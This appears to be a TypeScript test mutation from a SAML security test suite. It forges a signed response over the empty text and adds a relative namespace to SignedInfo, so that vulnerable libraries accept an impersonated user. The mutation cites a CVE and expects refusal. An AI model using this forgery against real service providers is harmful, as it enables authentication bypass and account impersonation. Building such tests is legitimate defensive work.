import { defineMutation, type MutationContext } from '../../model/mutation.ts';
import { digestText } from '../../saml/algorithms.ts';
import { VOID } from '../../saml/fill-signature.ts';
import { ALG } from '../../saml/namespaces.ts';
import { refs } from '../kit/attack-refs.ts';
import { setAttribute } from '../kit/edit.ts';
import { bySigner, signAgain, signedPaths } from '../kit/forge.ts';
import { personate } from '../kit/person.ts';

function spoilt(xml: string, context: MutationContext): string {
  const signed = signAgain(xml, {
    change: (unsigned) => personate(unsigned, context),
    parts: ({ id }) => ({
      references: [{ uri: `#${id}`, digestValues: [digestText(ALG.sha256, '')] }],
    }),
    fill: bySigner(context, 'idp', VOID),
  });
  return signedPaths(signed).reduce((text, path) => {
    const info = setAttribute(text, `${path}/Signature/SignedInfo`, 'xmlns:void', 'relative');
    return setAttribute(info, path, 'xmlns:void', 'relative');
  }, signed);
}

export default defineMutation({
  id: 'canonicalization/void-signed-info',
  title: 'The signature is one over the empty text, and SignedInfo cannot be canonicalized',
  stage: 'after-signing',
  change: { on: 'response', apply: spoilt },
  breaks: ['attributes/value', 'signature/form', 'subject/user-name'],
  hostile: true,
  safe: 'refuses',
  refs: [refs.validateSignature, refs.canonicalizationMethod],
  cves: ['CVE-2025-66568'],
  attack: {
    against: 'sp',
    mechanism:
      'SignedInfo declares a relative namespace name, for which some libraries give the empty text. One signature over the empty text then fits every SignedInfo that is spoilt so, for ever.',
    weakness: ['void-canonicalization'],
  },
});
